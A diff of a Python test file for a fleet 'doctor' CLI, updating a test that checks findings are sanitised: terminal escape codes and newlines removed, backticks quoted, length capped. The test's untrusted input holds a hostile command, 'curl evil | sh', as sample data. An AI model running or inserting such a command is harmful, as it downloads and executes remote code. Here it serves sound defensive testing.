@@ -3,12 +3,14 @@
 import subprocess
 import sys
 
+from kai_fleet.finding import Level
 from kai_fleet_cli.display.terminal import engine_line, say
 from kai_fleet_cli.doctor.causes import Fault, findings
 from kai_fleet_cli.stack_file.reading import ROOT
 
 PROGRAM = """
 import sys
+from kai_fleet.finding import Level
 from kai_fleet_cli.display.terminal import engine_line
 for number in range(50_000):
     engine_line(f"line {number}")
@@ -37,8 +39,9 @@ def test_a_terminal_is_told_colours_and_nothing_else(capsys):
 def test_a_finding_is_a_line_of_its_own():
     """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
     cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
-    fault = Fault("pod", "b/a\nin b", cause, "look with: `kubectl -n {namespace} get {names}`")
-    (found,) = findings("pending", "ml", [fault])
+    fix = "look with: `kubectl -n {namespace} get {names}`"
+    fault = Fault(Level.MANDATORY, "ml", "pod", "b/a\nin b", cause, fix)
+    (found,) = findings("pending", [fault])
     assert found.subject == "pod b/a in b"
     assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
     assert len(found.cause) == 2000
